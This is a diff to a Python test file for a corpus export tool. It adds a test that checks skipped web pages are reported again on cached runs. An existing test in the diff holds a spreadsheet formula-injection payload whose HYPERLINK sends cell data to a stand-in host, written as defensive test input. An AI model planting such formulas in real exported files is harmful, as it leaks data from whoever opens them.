@@ -1,4 +1,5 @@
 import json
+import os
 import subprocess
 import sys
 
@@ -121,3 +122,17 @@ def test_csv_cells_never_open_a_spreadsheet_formula():
     formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click") the council met on the budget.'
     text = "".join(csv_chunks(compare(articles_from(formula, formula))))
     assert "'=HYPERLINK" in text and ',"=' not in text and "\n=" not in text
+
+
+def test_a_skipped_file_is_said_again_when_the_analysis_comes_from_the_cache(tmp_path):
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    for name in ("a.txt", "b.txt"):
+        (corpus / name).write_text("The council approved the harbour budget on Monday.\n")
+    (corpus / "menu.html").write_text("<html><body><nav><a href='/'>Home</a></nav></body></html>")
+    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache"), "XDG_STATE_HOME": str(tmp_path / "state"),
+           "XDG_CONFIG_HOME": str(tmp_path / "config")}
+    runs = [subprocess.run([sys.executable, "-m", "tui", "export", str(corpus)], capture_output=True, text=True, env=env)
+            for _ in range(2)]
+    for run in runs:
+        assert run.returncode == 0 and "menu.html: no article text found in this web page" in run.stderr
